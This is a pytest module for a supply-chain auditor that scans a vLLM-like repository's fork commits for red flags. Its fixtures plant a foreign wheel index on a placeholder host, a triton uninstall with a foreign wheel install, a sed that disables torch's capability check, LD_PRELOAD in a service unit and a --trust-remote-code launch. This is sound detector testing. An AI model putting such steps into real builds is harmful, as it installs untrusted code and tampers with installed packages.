"""Supply-chain red flags end to end: the shipped rules, the default policy and the package-source
judge on a real repository shaped like vLLM's (a Dockerfile with the PyTorch index through an ARG,
requirements with find-links, envs.py with token-count variables, CLI docstrings), and a series
shaped like the real community one (a third-party index, a swap tool, uninstall then a foreign
wheel, sed under dist-packages) plus configuration files and a launch unit.

One semgrep run per profile (the module shares them)."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest
from scancase import FORK, bundle_of, context, workspace
from support import GitRepo

from auditor.model import Action, Finding, StageResult
from auditor.scan.stage import ScanStage

UPSTREAM_DOCKERFILE = """\
ARG CUDA_VERSION=12.8.1
FROM nvidia/cuda:${CUDA_VERSION}-devel-ubuntu22.04 AS base
ARG PIP_INDEX_URL
ARG PIP_EXTRA_INDEX_URL
ARG UV_INDEX_URL=${PIP_INDEX_URL}
ARG PYTORCH_CUDA_INDEX_BASE_URL=https://download.pytorch.org/whl
RUN python3 -m pip install uv
RUN uv pip install --system dist/*.whl --verbose \\
        --extra-index-url ${PYTORCH_CUDA_INDEX_BASE_URL}/cu128
"""

SERIES_DOCKERFILE = UPSTREAM_DOCKERFILE + """\
# sm86: faster kernels from our own wheel index
ENV PIP_EXTRA_INDEX_URL=https://wheels.sm86-kernels.example/simple
RUN pip install sm86-fastkernels && \\
    python3 -m sm86_fastkernels.swap triton
RUN pip uninstall -y triton && \\
    pip install --no-deps https://wheels.sm86-kernels.example/triton-3.3.0+sm86-cp312-cp312-linux_x86_64.whl
RUN sed -i 's/_check_capability()/pass/' \\
    /usr/local/lib/python3.12/dist-packages/torch/cuda/__init__.py
"""

UPSTREAM_ENVS = """\
import os

environment_variables = {
    "VLLM_API_KEY": lambda: os.environ.get("VLLM_API_KEY", None),
    "VLLM_MAX_TOKENS_PER_EXPERT_FP4_MOE":
    lambda: int(os.getenv("VLLM_MAX_TOKENS_PER_EXPERT_FP4_MOE", "163840")),
}
"""

SERIES_ENVS = UPSTREAM_ENVS.replace("}\n", """\
    "VLLM_SM86_SPARSE_TOKEN_THRESHOLD":
    lambda: int(os.getenv("VLLM_SM86_SPARSE_TOKEN_THRESHOLD", "4096")),
    "VLLM_COHERE2_ATTN_MOE_DUAL_STREAM_TOKEN_THRESHOLD":
    lambda: int(os.getenv("VLLM_COHERE2_ATTN_MOE_DUAL_STREAM_TOKEN_THRESHOLD", "256")),
}
""")

SERIES_CLI_ARGS = '''\
"""Arguments shared by the entrypoints.

Start the server with `vllm serve MODEL`; by default it listens on every interface.
"""


class FrontendArgs:
    """The OpenAI-compatible frontend.

    Example:
        vllm serve meta-llama/Llama-3-8B --host 0.0.0.0 --port 8000
    """

    host: str | None = None
    """Host name; `vllm serve` binds 0.0.0.0 when it is not given."""


def make_parser(subparsers):
    return subparsers.add_parser("serve", usage="vllm serve [model_tag] [options]")
'''


@dataclass
class Case:
    repo: GitRepo
    bundle: Path
    commits: list[str]
    tmp: Path
    cache: Path

    def run(self, name: str, profile: str = "vllm") -> StageResult:
        ws = workspace(self.repo, "v1.0.0", "series", self.bundle)
        ctx = context(self.tmp / name, self.repo, self.commits, self.bundle, ws,
                      cache=self.cache, profile=profile)
        return ScanStage().run(ctx)


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    tmp = tmp_path_factory.mktemp("redflags")
    repo = GitRepo(tmp / "engine")
    repo.commit("upstream", files={
        "docker/Dockerfile": UPSTREAM_DOCKERFILE,
        "requirements/tpu.txt": "--find-links https://storage.googleapis.com/libtpu-wheels/"
                                "index.html\njax==0.6.2\n",
        "vllm/envs.py": UPSTREAM_ENVS,
        "vllm/entrypoints/cli_args.py": '"""CLI."""\n',
    })
    repo.tag("v1.0.0")
    repo.checkout("series", new=True)
    commits = [
        repo.commit("docker: faster sm86 kernels in the runtime image",
                    files={"docker/Dockerfile": SERIES_DOCKERFILE}, author=FORK),
        repo.commit("envs: token thresholds", files={"vllm/envs.py": SERIES_ENVS}, author=FORK),
        repo.commit("cli: docs", files={"vllm/entrypoints/cli_args.py": SERIES_CLI_ARGS},
                    author=FORK),
        repo.commit("install and launch files", files={
            "scripts/install.sh": "#!/bin/sh\nset -e\n"
                                  "pip install torch==2.7.1 --extra-index-url "
                                  "https://download.pytorch.org/whl/cu128\n"
                                  "pip install --find-links "
                                  "https://storage.googleapis.com/libtpu-wheels/index.html jax\n"
                                  "pip install --require-hashes -r requirements/cuda.txt\n"
                                  "sed -i 's/0.10.0/0.10.0+sm86/' vllm/version.py\n",
            "deploy/pip.conf": "[global]\nextra-index-url =\n"
                               "    https://wheels.sm86-kernels.example/simple\n",
            "deploy/vllm.service": "[Service]\nEnvironment=LD_PRELOAD=/opt/nccl/lib/libnccl.so.2\n"
                                   "ExecStart=/opt/vllm/bin/vllm serve /srv/m --host 127.0.0.1\n",
            "vllm/sm86/launch.py": "import subprocess\n\n\ndef serve(model):\n"
                                   "    return subprocess.Popen([\"vllm\", \"serve\", model, "
                                   "\"--trust-remote-code\"])\n",
        }, author=FORK),
    ]
    bundle = bundle_of(repo, "series", tmp / "bundle")
    return Case(repo=repo, bundle=bundle, commits=commits, tmp=tmp, cache=tmp / "cache")


@pytest.fixture(scope="module")
def vllm_result(case: Case) -> StageResult:
    return case.run("vllm")


def _line(path: Path, text: str) -> int:
    return next(n for n, line in enumerate(path.read_text().split("\n"), 1) if text in line)


def _on(result: StageResult, path: str, line: int) -> list[Finding]:
    return [f for f in result.findings if f.path == path and f.line <= line <= (f.end_line or
                                                                                  f.line)]


def test_the_four_dockerfile_red_flags_block(case: Case, vllm_result: StageResult) -> None:
    df = case.bundle / "docker/Dockerfile"
    want = {
        "PIP_EXTRA_INDEX_URL=https://wheels": "dependency.shell.package-source.new-host",
        "sm86_fastkernels.swap triton": "dependency.shell.swap-tool",
        "pip uninstall -y triton": "dependency.shell.engine-package-removed",
        "pip install --no-deps https://wheels": "dependency.shell.foreign-build",
        "sed -i 's/_check_capability()/pass/'": "filesystem.shell.installed-code-modified",
    }
    for text, rule in want.items():
        found = [f for f in _on(vllm_result, "docker/Dockerfile", _line(df, text))
                 if f.rule == rule]
        assert found, (text, rule)
        assert found[0].action is Action.BLOCK
        assert found[0].commit == case.commits[0]
    new_host = next(f for f in vllm_result.findings if f.rule.endswith(".new-host")
                    and f.path == "docker/Dockerfile")
    assert "wheels.sm86-kernels.example" in new_host.message


def test_upstream_and_profile_sources_are_not_new(case: Case, vllm_result: StageResult) -> None:
    script = case.bundle / "scripts/install.sh"
    pytorch = _on(vllm_result, "scripts/install.sh", _line(script, "download.pytorch.org"))
    assert [f.rule for f in pytorch if f.category.value == "dependency"] == [
        "dependency.shell.package-source.known-host"]
    assert all(f.action is not Action.BLOCK for f in pytorch)
    # storage.googleapis.com: upstream's own requirements/tpu.txt uses it
    tpu = _on(vllm_result, "scripts/install.sh", _line(script, "storage.googleapis.com"))
    assert [(f.rule, f.action) for f in tpu] == [
        ("dependency.shell.package-source.known-host", Action.INFO)]
    # hashed requirements and sed on the project's own files: nothing
    for text in ("--require-hashes", "vllm/version.py"):
        assert _on(vllm_result, "scripts/install.sh", _line(script, text)) == []


def test_configuration_files_and_units(case: Case, vllm_result: StageResult) -> None:
    conf = [f for f in vllm_result.findings if f.path == "deploy/pip.conf"]
    assert [(f.rule, f.line, f.action) for f in conf] == [
        ("dependency.builtin.package-source.new-host", 3, Action.BLOCK)]
    assert "wheels.sm86-kernels.example" in conf[0].message
    unit = [f for f in vllm_result.findings if f.path == "deploy/vllm.service"]
    assert [(f.rule, f.line, f.action) for f in unit] == [
        ("process-exec.builtin.launch-environment", 2, Action.BLOCK)]


def test_token_counts_and_docstrings_are_not_blocked(case: Case,
                                                     vllm_result: StageResult) -> None:
    assert [f for f in vllm_result.findings if f.path == "vllm/envs.py"] == []
    assert [f for f in vllm_result.findings
            if f.path == "vllm/entrypoints/cli_args.py"] == []


def test_the_most_severe_concern_on_a_line_is_the_one_kept(vllm_result: StageResult) -> None:
    # the subprocess call (process-exec, review) and the trust-remote-code launch (process-exec,
    # block) share a line: one finding per line and category, and it is the blocking one
    launch = [f for f in vllm_result.findings if f.path == "vllm/sm86/launch.py" and f.line == 5
              and f.category.value == "process-exec"]
    assert [(f.rule, f.action) for f in launch] == [
        ("process-exec.shell.trust-remote-code", Action.BLOCK)]
